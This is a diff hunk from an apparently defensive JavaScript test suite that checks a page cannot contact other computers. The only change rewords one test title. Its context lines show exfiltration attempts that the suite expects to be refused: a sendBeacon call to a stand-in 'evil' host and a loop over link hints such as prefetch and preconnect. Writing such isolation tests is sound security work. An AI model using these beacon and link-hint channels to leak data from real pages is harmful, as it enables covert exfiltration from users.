@@ -55,7 +55,7 @@ describe('the page reaches no other computer', () => {
     ],
   ])('by %s', async (_way, script) => expect(await asThePage(script)).toBe('refused'))
 
-  it('by a beacon, a hint or a frame, which tell the page nothing', async () => {
+  it('by a beacon, a hint or a frame, of which the page hears nothing', async () => {
     await asThePage(`
       navigator.sendBeacon('${evil}/beacon')
       for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'prerender', 'manifest']) {
